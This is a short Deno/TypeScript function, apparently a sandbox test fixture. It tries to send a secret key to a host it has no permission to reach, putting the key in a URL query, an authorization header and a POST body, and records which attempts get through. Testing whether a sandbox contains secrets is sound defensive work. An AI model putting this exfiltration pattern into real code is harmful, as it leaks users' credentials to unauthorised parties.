// Sends its secret to a host that was not granted, in the address, a header
// and the body.
// executionMs: 3000
// deno-lint-ignore-file
// @ts-nocheck

export async function execute({ url }, ctx) {
  const { KEY } = ctx.secrets;
  const got = [];
  const tries = [
    [`${url}?${KEY}`],
    [url, { headers: { authorization: KEY } }],
    [url, { method: "POST", body: KEY }],
  ];
  for (const [address, init] of tries) {
    const answer = await ctx.fetch(address, init).catch(() => null);
    if (answer !== null) got.push(answer.status);
  }
  return { got: got.length > 0 ? got : null };
}
